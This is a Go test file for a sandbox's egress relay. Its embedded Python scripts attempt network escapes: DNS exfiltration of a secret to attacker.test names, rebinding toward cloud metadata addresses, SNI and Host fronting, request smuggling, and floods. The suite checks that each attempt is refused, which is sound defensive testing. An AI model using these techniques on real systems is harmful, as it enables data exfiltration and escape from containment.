package sandbox_test

// The escape suite's network cases: a tool with egress grants tries to get
// data or connections past the relay. The relay's resolver and dialer are
// the test's (upstreams): granted names resolve to documentation addresses
// routed to local servers, and the rebinding names resolve to loopback and
// metadata addresses routed to the canary listener, which fails the case if
// anything reaches it.

import (
	"crypto/tls"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/toolcell/toolcell/capability"
	"github.com/toolcell/toolcell/sandbox"
)

// pyPrelude gives the attack scripts a raw DNS query and an "escaped"
// marker.
const pyPrelude = `
import socket, ssl, struct, sys, time
def dnsq(name, qtype=1, server=("127.77.0.1", 53)):
    qn = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + qn + struct.pack(">HH", qtype, 1), server)
    r, frm = s.recvfrom(512)
    return r[3] & 15, struct.unpack(">H", r[6:8])[0], frm[0]
def escaped(what):
    print("ESCAPED", what)
def insecure():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx
def tls_to(host, port, name, wait=0):
    # what a TLS request naming name (SNI and Host) to host:port got back;
    # the context first: loading it is slow, and a connection silent past
    # the relay's sniff window makes the relay dial early
    ctx = insecure()
    s = socket.create_connection((host, port), timeout=10)
    time.sleep(wait)
    try:
        t = ctx.wrap_socket(s, server_hostname=name)
        t.sendall(b"GET / HTTP/1.1\r\nHost: " + name.encode() + b"\r\n\r\n")
        return t.recv(100)
    except (ssl.SSLError, OSError) as e:
        print("refused:", e)
def hello(name):
    # the ClientHello OpenSSL sends first for name, as bytes
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        insecure().wrap_bio(i, o, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return o.read()
def with_ext(rec, typ, data):
    # rec (one record, one ClientHello) with one more extension
    b = bytearray(rec)
    i = 5 + 4 + 2 + 32
    i += 1 + b[i]
    i += 2 + int.from_bytes(b[i:i+2], "big")
    i += 1 + b[i]
    ext = typ.to_bytes(2, "big") + len(data).to_bytes(2, "big") + data
    b[i:i+2] = (int.from_bytes(b[i:i+2], "big") + len(ext)).to_bytes(2, "big")
    b += ext
    b[6:9] = (len(b) - 9).to_bytes(3, "big")
    b[3:5] = (len(b) - 5).to_bytes(2, "big")
    return bytes(b)
`

// netEnv is what the network cases run against.
type netEnv struct {
	u       *upstreams
	reached chan string // requests that reached a good upstream
}

func newNetEnv(t *testing.T, c *canaries) *netEnv {
	t.Helper()
	e := &netEnv{u: newUpstreams(), reached: make(chan string, 64)}
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.reached <- r.Host + r.URL.Path
		io.WriteString(w, "upstream reached")
	}))
	t.Cleanup(web.Close)
	tlsWeb := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.reached <- "tls " + r.Host + r.URL.Path
		io.WriteString(w, "upstream reached")
	}))
	t.Cleanup(tlsWeb.Close)
	sink, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sink.Close() })
	go func() {
		for {
			conn, err := sink.Accept()
			if err != nil {
				return
			}
			go func() { io.Copy(io.Discard, conn); conn.Close() }()
		}
	}()
	canary := net.JoinHostPort("127.0.0.1", strconv.Itoa(c.port))
	e.u.add("api.example.com", "203.0.113.10", 80, web.Listener.Addr().String())
	e.u.add("api.example.com", "203.0.113.10", 443, tlsWeb.Listener.Addr().String())
	// A TLS 1.3 server that takes only P-256: a client that shares an
	// X25519 key first gets a HelloRetryRequest.
	retry := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.reached <- "tls " + r.Host + r.URL.Path
		io.WriteString(w, "upstream reached")
	}))
	retry.TLS = &tls.Config{CurvePreferences: []tls.CurveID{tls.CurveP256}, MinVersion: tls.VersionTLS13}
	retry.StartTLS()
	t.Cleanup(retry.Close)
	e.u.add("api.example.com", "203.0.113.10", 8443, retry.Listener.Addr().String())
	e.u.add("sink.example.com", "203.0.113.12", 9000, sink.Addr().String())
	e.u.add("rebind.example.com", "127.0.0.1", 80, canary)
	e.u.add("meta.example.com", "169.254.169.254", 80, canary)
	e.u.add("private.example.com", "10.1.2.3", 80, canary)
	return e
}

// netAttack runs script (after pyPrelude) with grants, under the runner r
// configures; more checks what only the run knows (what was dialed).
func netAttack(grants []string, r func(*sandbox.Runner), script string, more func(*testing.T, *netEnv, *sandbox.Result)) func(*testing.T, *canaries, *capability.Set, string) (*sandbox.Result, string) {
	return func(t *testing.T, c *canaries, set *capability.Set, _ string) (*sandbox.Result, string) {
		t.Helper()
		e := newNetEnv(t, c)
		runner := e.u.runner()
		if r != nil {
			r(runner)
		}
		set = set.Clone().WithEgress(grants...)
		res := runWith(t, runner, set, "exec python3 -c '"+strings.ReplaceAll(pyPrelude+script, "'", `'"'"'`)+"'")
		if more != nil {
			more(t, e, res)
		}
		return res, string(res.Stdout)
	}
}

// refusedNet: the record has a refused network entry of kind whose name,
// destination and reason contain the given parts.
func refusedNet(kind, name, dst, reason string) func(*testing.T, *canaries, *sandbox.Result, string) {
	return func(t *testing.T, c *canaries, res *sandbox.Result, out string) {
		t.Helper()
		for _, n := range res.Audit.Network {
			if n.Kind == kind && !n.Allowed && strings.Contains(n.Name, name) && strings.Contains(n.Dst, dst) && strings.Contains(n.Reason, reason) {
				return
			}
		}
		t.Errorf("no refused %s entry with name~%q dst~%q reason~%q in %+v", kind, name, dst, reason, res.Audit.Network)
	}
}

// outputHas: the tool printed each of words.
func outputHas(words ...string) func(*testing.T, *canaries, *sandbox.Result, string) {
	return func(t *testing.T, c *canaries, res *sandbox.Result, out string) {
		t.Helper()
		for _, w := range words {
			if !strings.Contains(out, w) {
				t.Errorf("output lacks %q: %s", w, out)
			}
		}
	}
}

func allOf(checks ...func(*testing.T, *canaries, *sandbox.Result, string)) func(*testing.T, *canaries, *sandbox.Result, string) {
	return func(t *testing.T, c *canaries, res *sandbox.Result, out string) {
		t.Helper()
		for _, ch := range checks {
			ch(t, c, res, out)
		}
	}
}

// notDialed: the relay connected nowhere.
func notDialed(t *testing.T, e *netEnv, res *sandbox.Result) {
	t.Helper()
	e.u.mu.Lock()
	defer e.u.mu.Unlock()
	if len(e.u.dialed) != 0 {
		t.Errorf("the relay dialed %v", e.u.dialed)
	}
}

// notLookedUp: no name under suffix reached the host's resolver.
func notLookedUp(suffix string) func(*testing.T, *netEnv, *sandbox.Result) {
	return func(t *testing.T, e *netEnv, res *sandbox.Result) {
		t.Helper()
		e.u.mu.Lock()
		defer e.u.mu.Unlock()
		for _, n := range e.u.lookups {
			if strings.HasSuffix(n, suffix) {
				t.Errorf("%s was looked up on the host", n)
			}
		}
	}
}

func netEscapeCases() []escapeCase {
	api := []string{"api.example.com:80", "api.example.com:443"}
	return []escapeCase{
		{attack: "net_dns_exfil", run: netAttack(api, nil, `
secret = "c2VjcmV0LWtleQ"
for i in range(3):
    try:
        socket.getaddrinfo(secret + str(i) + ".attacker.test", 443)
        escaped("resolved")
    except socket.gaierror:
        pass
rc, an, _ = dnsq(secret + ".txt.attacker.test", 16)
if an: escaped("TXT answered")
print("rcode", rc)
`, notLookedUp("attacker.test")), check: allOf(
			refusedNet("dns", "c2vjcmv0lwtleq0.attacker.test", "", "not granted"),
			refusedNet("dns", "c2vjcmv0lwtleq.txt.attacker.test", "127.77.0.1:53", "not granted"))},
		{attack: "net_dns_other_server", run: netAttack(api, nil, `
rc, an, frm = dnsq("leak.attacker.test", 1, ("8.8.8.8", 53))
if an: escaped("answered")
print("rcode", rc, "from", frm)
rc, an, frm = dnsq("api.example.com", 1, ("9.9.9.9", 53))
print("granted", rc, an, frm)
if frm != "9.9.9.9": escaped("answer came from " + frm)
`, notLookedUp("attacker.test")), check: refusedNet("dns", "leak.attacker.test", "8.8.8.8:53", "not granted")},
		{attack: "net_direct_ip", run: netAttack(api, nil, `
for a in [("203.0.113.10", 443, socket.AF_INET), ("2001:db8::10", 443, socket.AF_INET6)]:
    s = socket.socket(a[2], socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect(a[:2])
        s.sendall(b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
        if s.recv(100): escaped("direct " + a[0])
    except OSError as e:
        print(a[0], e)
`, notDialed), check: allOf(
			refusedNet("connect", "", "203.0.113.10:443", "direct IP connect"),
			refusedNet("connect", "", "[2001:db8::10]:443", "direct IP connect"))},
		{attack: "net_ipv6_name", run: netAttack(api, nil, `
try:
    socket.getaddrinfo("api.example.com", 443, socket.AF_INET6)
    escaped("AAAA answered")
except socket.gaierror as e:
    print("no AAAA:", e)
`, notDialed), check: func(t *testing.T, c *canaries, res *sandbox.Result, out string) {
			for _, n := range res.Audit.Network {
				if n.Kind == "dns" && n.Type == "AAAA" && n.Name == "api.example.com" {
					return
				}
			}
			t.Errorf("no AAAA query recorded: %+v", res.Audit.Network)
		}},
		{attack: "net_udp_quic", run: netAttack(api, nil, `
ip = socket.gethostbyname("api.example.com")
for a in [(ip, 443), ("203.0.113.10", 443)]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(b"\xc0\x00\x00\x00\x01" + b"\x00" * 1200, a)
    try:
        if s.recv(100): escaped("udp answer")
    except OSError as e:
        print(a, e)
`, notDialed), check: allOf(
			refusedNet("connect", "", "127.77.0.2:443", "UDP is not relayed"),
			refusedNet("connect", "", "203.0.113.10:443", "UDP is not relayed"))},
		{attack: "net_rebind_loopback", run: netAttack([]string{"rebind.example.com:80"}, nil, `
s = socket.create_connection(("rebind.example.com", 80), timeout=10)
s.sendall(b"GET / HTTP/1.1\r\nHost: rebind.example.com\r\n\r\n")
if s.recv(100): escaped("got an answer")
`, notDialed), check: refusedNet("connect", "rebind.example.com", "", "loopback address 127.0.0.1")},
		{attack: "net_rebind_metadata", run: netAttack([]string{"meta.example.com:80", "private.example.com:80"}, nil, `
for n in ["meta.example.com", "private.example.com"]:
    s = socket.create_connection((n, 80), timeout=10)
    s.sendall(b"GET /latest/meta-data/ HTTP/1.1\r\nHost: " + n.encode() + b"\r\n\r\n")
    if s.recv(100): escaped("got an answer from " + n)
`, notDialed), check: allOf(
			refusedNet("connect", "meta.example.com", "", "link-local address (cloud metadata lives here) 169.254.169.254"),
			refusedNet("connect", "private.example.com", "", "private address 10.1.2.3"))},
		{attack: "net_sni_mismatch", run: netAttack(api, nil, `
if tls_to("api.example.com", 443, "internal.example.net"): escaped("fronted")
`, notDialed), check: refusedNet("connect", "api.example.com", "", "sni mismatch: internal.example.net")},
		// Waiting past the relay's sniff window (1 s) before the
		// ClientHello does not skip its check.
		{attack: "net_sni_late", run: netAttack(api, nil, `
if tls_to("api.example.com", 443, "internal.example.net", wait=1.5): escaped("fronted")
`, func(t *testing.T, e *netEnv, res *sandbox.Result) {
			select {
			case r := <-e.reached:
				t.Errorf("the upstream got a request: %s", r)
			default:
			}
		}), check: refusedNet("connect", "api.example.com", "", "sni mismatch: internal.example.net")},
		// After a HelloRetryRequest the server takes its name from the
		// second ClientHello: that one is checked too. A legitimate
		// retry (Python's own handshake) still goes through.
		{attack: "net_sni_retry", run: netAttack([]string{"api.example.com:8443"}, nil, `
t = insecure().wrap_socket(socket.create_connection(("api.example.com", 8443), timeout=10), server_hostname="api.example.com")
t.sendall(b"GET /ok HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n")
if b"upstream reached" in t.recv(4096): print("RETRY-OK")
h1, h2 = hello("api.example.com"), hello("internal.example.net") # before connecting: see tls_to
s = socket.create_connection(("api.example.com", 8443), timeout=10)
s.sendall(h1)
got = b""
while len(got) < 43:
    b = s.recv(43 - len(got))
    if not b: break
    got += b
if got[11:43] == bytes.fromhex("cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c"): print("GOT-RETRY")
try:
    s.sendall(h2)
    if s.recv(100): print("answered")
except OSError as e:
    print("refused:", e)
`, func(t *testing.T, e *netEnv, res *sandbox.Result) {
			for {
				select {
				case r := <-e.reached:
					if r != "tls api.example.com/ok" {
						t.Errorf("the upstream got a request: %s", r)
					}
				default:
					return
				}
			}
		}), check: allOf(outputHas("RETRY-OK", "GOT-RETRY"),
			refusedNet("connect", "api.example.com", "", "sni mismatch: internal.example.net (ClientHello 2"))},
		// Encrypted Client Hello hides the name the server routes by.
		{attack: "net_ech", run: netAttack(api, nil, `
for typ in (0xfe0d, 0xffce):
    h = with_ext(hello("api.example.com"), typ, bytes(16)) # before connecting: see tls_to
    s = socket.create_connection(("api.example.com", 443), timeout=10)
    try:
        s.sendall(h)
        if s.recv(100): escaped("hello with extension %x answered" % typ)
    except OSError as e:
        print("refused:", e)
`, notDialed), check: refusedNet("connect", "api.example.com", "", "ech refused")},
		{attack: "net_host_mismatch", run: netAttack(api, nil, `
s = socket.create_connection(("api.example.com", 80), timeout=10)
s.sendall(b"GET /admin HTTP/1.1\r\nHost: internal.example.net\r\n\r\n")
if s.recv(100): escaped("fronted")
`, notDialed), check: refusedNet("connect", "api.example.com", "", "host mismatch: internal.example.net")},
		{attack: "net_http_second_request", run: netAttack(api, nil, `
s = socket.create_connection(("api.example.com", 80), timeout=10)
s.sendall(b"GET /ok HTTP/1.1\r\nHost: api.example.com\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal.example.net\r\n\r\n")
got = b""
while True:
    b = s.recv(4096)
    if not b: break
    got += b
if got.count(b"upstream reached") > 1: escaped("answers: %r" % got)
print(got.count(b"upstream reached"), "answer")
`, func(t *testing.T, e *netEnv, res *sandbox.Result) {
			for {
				select {
				case r := <-e.reached:
					if r != "api.example.com/ok" {
						t.Errorf("the upstream was asked for %s", r)
					}
				default:
					return
				}
			}
		}), check: refusedNet("connect", "api.example.com", "", "request 2 refused: host mismatch: internal.example.net")},
		{attack: "net_http_smuggle_body", run: netAttack(api, nil, `
s = socket.create_connection(("api.example.com", 80), timeout=10)
hidden = b"GET /admin HTTP/1.1\r\nHost: internal.example.net\r\n\r\n"
s.sendall(b"POST /ok HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: %d\r\n\r\n" % len(hidden) + hidden)
got = b""
while True:
    b = s.recv(4096)
    if not b: break
    got += b
print(got.count(b"upstream reached"), "answer")
`, func(t *testing.T, e *netEnv, res *sandbox.Result) {
			for {
				select {
				case r := <-e.reached:
					if strings.Contains(r, "internal") || strings.Contains(r, "admin") {
						t.Errorf("the upstream was asked for %s", r)
					}
				default:
					return
				}
			}
		}), check: refusedNet("connect", "api.example.com", "", "request 1 refused: request body begins like a request line")},
		{attack: "net_conn_flood", run: netAttack([]string{"sink.example.com:9000"},
			func(r *sandbox.Runner) { r.Egress.MaxConns = 8 }, `
socks = []
for i in range(40):
    s = socket.create_connection(("sink.example.com", 9000), timeout=10)
    s.sendall(b"\0") # binary: held open by the relay, not judged as text
    socks.append(s)
time.sleep(0.5)
print(len(socks), "opened")
`, nil), check: refusedNet("connect", "sink.example.com", "", "cap reached: 8 concurrent connections")},
		{attack: "net_byte_flood", run: netAttack([]string{"sink.example.com:9000"},
			func(r *sandbox.Runner) { r.Egress.MaxBytes = 1 << 20 }, `
s = socket.create_connection(("sink.example.com", 9000), timeout=10)
sent = 0
try:
    while sent < 64 << 20:
        sent += s.send(b"\0" * 65536)
    escaped("sent %d bytes" % sent)
except OSError as e:
    print("cut after", sent, e)
`, func(t *testing.T, e *netEnv, res *sandbox.Result) {
				var out int64
				for _, n := range res.Audit.Network {
					out += n.BytesOut + n.BytesIn
				}
				if out > 1<<20 {
					t.Errorf("relayed %d bytes past a 1 MiB cap", out)
				}
			}), check: func(t *testing.T, c *canaries, res *sandbox.Result, out string) {
			for _, n := range res.Audit.Network {
				if n.Name == "sink.example.com" && n.Allowed && n.Reason == "cap reached: bytes" {
					return
				}
			}
			t.Errorf("no connection cut at the byte cap: %+v", res.Audit.Network)
		}},
		{attack: "net_slow_hold", run: netAttack([]string{"sink.example.com:9000"},
			func(r *sandbox.Runner) { r.Egress.IdleTimeout = 500 * time.Millisecond }, `
s = socket.create_connection(("sink.example.com", 9000), timeout=10)
start = time.time()
r = s.recv(1)
print("closed after %.1fs" % (time.time() - start), r)
if time.time() - start > 8: escaped("held")
`, nil), check: func(t *testing.T, c *canaries, res *sandbox.Result, out string) {
			for _, n := range res.Audit.Network {
				if n.Name == "sink.example.com" && strings.HasPrefix(n.Reason, "idle for 500ms") {
					return
				}
			}
			t.Errorf("no connection ended as idle: %+v", res.Audit.Network)
		}},
		{attack: "net_dns_flood", run: netAttack(api, func(r *sandbox.Runner) { r.Egress.DNSRate = 50 }, `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
q = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\x05flood\x08attacker\x04test\x00" + struct.pack(">HH", 1, 1)
for i in range(3000):
    s.sendto(q, ("127.77.0.1", 53))
    if i % 20 == 0: time.sleep(0.001) # what the kernel drops unread is not counted
time.sleep(0.5)
`, nil), check: func(t *testing.T, c *canaries, res *sandbox.Result, out string) {
			var limited, folded bool
			for _, n := range res.Audit.Network {
				limited = limited || (n.Kind == "dns" && strings.Contains(n.Reason, "rate limit") && n.Count > 0)
				folded = folded || (n.Name == "flood.attacker.test" && n.Count >= 1000)
			}
			if !limited || !folded || len(res.Audit.Network) > 4 {
				t.Errorf("flood not folded and limited: %+v", res.Audit.Network)
			}
		}},
		// A flood of UDP datagrams and made-up names, each to another
		// address, fills their quotas of network[]; the fronting, rebinding
		// and direct connects after it still get entries of their own.
		{attack: "net_flood_then_front", run: netAttack(append(api, "rebind.example.com:80"), nil, `
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(600):
    u.sendto(b"\0", ("10.9.%d.%d" % (i // 250, i % 250 + 1), 443))
    if i % 50 == 0: time.sleep(0.01) # what the kernel drops unread is not counted
for i in range(600):
    dnsq("f%d.attacker.test" % i)
time.sleep(0.5)
if tls_to("api.example.com", 443, "internal.example.net"): escaped("fronted with sni")
for host, port, req in [("api.example.com", 80, b"GET /admin HTTP/1.1\r\nHost: internal.example.net\r\n\r\n"),
                        ("rebind.example.com", 80, b"GET / HTTP/1.1\r\nHost: rebind.example.com\r\n\r\n"),
                        ("rebind.example.com", 443, b"GET / HTTP/1.1\r\nHost: rebind.example.com\r\n\r\n"),
                        ("203.0.113.10", 80, b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n")]:
    s = socket.create_connection((host, port), timeout=10)
    s.sendall(req)
    try:
        if s.recv(100): escaped("answer from %s:%d" % (host, port))
    except OSError as e:
        print(host, port, e)
`, notDialed), check: allOf(
			refusedNet("connect", "api.example.com", "127.77.0.2:443", "sni mismatch: internal.example.net"),
			refusedNet("connect", "api.example.com", "127.77.0.2:80", "host mismatch: internal.example.net"),
			refusedNet("connect", "rebind.example.com", ":80", "loopback address 127.0.0.1"),
			refusedNet("connect", "rebind.example.com", ":443", "port not granted for this name"),
			refusedNet("connect", "", "203.0.113.10:80", "direct IP connect"),
			refusedNet("connect", "", "", "not itemised (quota full): further UDP datagrams"),
			refusedNet("dns", "", "", "not itemised (quota full): further names not granted"),
			func(t *testing.T, c *canaries, res *sandbox.Result, out string) {
				udp, names, over, overNames := 0, 0, 0, 0
				for _, n := range res.Audit.Network {
					switch {
					case n.Protocol == "udp" && strings.HasPrefix(n.Dst, "10.9."):
						udp++
					case n.Kind == "dns" && strings.HasSuffix(n.Name, ".attacker.test"):
						names++
					case strings.HasPrefix(n.Reason, "not itemised"):
						over += n.Count
						if strings.HasSuffix(n.Reason, "names not granted") {
							overNames += n.Count
						}
					}
				}
				if udp != 128 || names != 512 || overNames != 600-512 || over != res.Audit.NetworkDropped {
					t.Errorf("%d UDP and %d DNS entries itemised (want 128 and 512), %d names counted in the overflow entry (want %d), %d in all overflow entries, %d dropped",
						udp, names, overNames, 600-512, over, res.Audit.NetworkDropped)
				}
			})},
		{attack: "net_raw_socket", run: netAttack(api, nil, `
errs = []
for fam, typ in [(socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW)]:
    try:
        socket.socket(fam, typ, 0)
        escaped("raw socket %d" % fam)
    except OSError as e:
        errs.append(e.errno)
print("RESULT EPERM" if errs == [1, 1, 1] else "RESULT %r" % errs)
`, nil), check: deniedBy("socket", "AF_PACKET")},
	}
}
